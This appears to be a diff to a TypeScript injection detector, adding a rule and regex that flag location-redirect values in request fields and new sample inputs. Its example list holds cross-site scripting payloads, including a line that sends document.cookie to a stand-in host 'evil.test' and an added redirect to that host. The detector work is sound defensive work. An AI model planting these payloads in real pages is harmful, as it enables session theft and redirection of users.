@@ -14,7 +14,7 @@ import { scriptPieces, strongestScript } from '../../grammars/script/script-piec
 import { isScriptInProse } from '../../grammars/script/script-prose.ts';
 import { commonFunctions, scriptWords } from '../../knowledge/script-words.ts';
 import { confidence } from '../../placement/confidence.ts';
-import { isMessageMember } from '../../placement/field-role.ts';
+import { isLineInHead, isMessageMember } from '../../placement/field-role.ts';
 import type { Subject } from '../../placement/subject.ts';
 import { charClass } from '../../text/char-class.ts';
 import { wordSet } from '../../text/words.ts';
@@ -39,6 +39,7 @@ export const scriptCall: ValueRule = {
     "eval(atob('YWxlcnQoMSk='))",
     "[].constructor.constructor('alert(1)')()",
     "location='//evil.test/?'+document.cookie",
+    { body: { 'query.name': "top.location='//evil.test'" } },
     'onerror=alert;throw 1',
     'with(document)forms[0].submit()',
     'setTimeout("go()",5)',
@@ -83,6 +84,8 @@ export const scriptCall: ValueRule = {
     'useEffect(() => { alert(x) })(y)',
     'Never use `eval(name)`; parse the text.',
     '5;confirm(email)',
+    { body: { onclick: "location.href='https://www.example.com/shop'" } },
+    { body: { 'query.q': "location.href='https://www.example.com'" } },
     { body: { message: "(() => { alert('Hello World'); })();" } },
   ],
 };
@@ -162,8 +165,16 @@ function scoreOf(subject: Subject, evidence: ScriptEvidence): number {
     return isMessageMember(subject.member) ? confidence.hint : confidence.likely;
   }
   if (prose) return confidence.trace;
-  return isWholeText(tokens, evidence) ? confidence.hint : confidence.trace;
+  return isWholeText(tokens, evidence) ? scoreOfWhole(subject) : confidence.trace;
 }
+
+function scoreOfWhole({ member, text }: Subject): number {
+  return isLineInHead(member) && leaving.test(text) ? confidence.likely : confidence.hint;
+}
+
+/** `location='//evil.test'` in a parameter that takes no text. */
+const leaving =
+  /^\s{0,8}(?:\w{1,12}\s?\.\s?){0,3}location\s?(?:\.\s?href\s?)?=\s?['"`](?:https?:)?\/\//;
 
 /** The call is named among words: `alert(1) meaning`, or a code span of Markdown in a sentence. */
 function isTalkedAbout(tokens: ScriptTokens, { first, last }: ScriptEvidence): boolean {
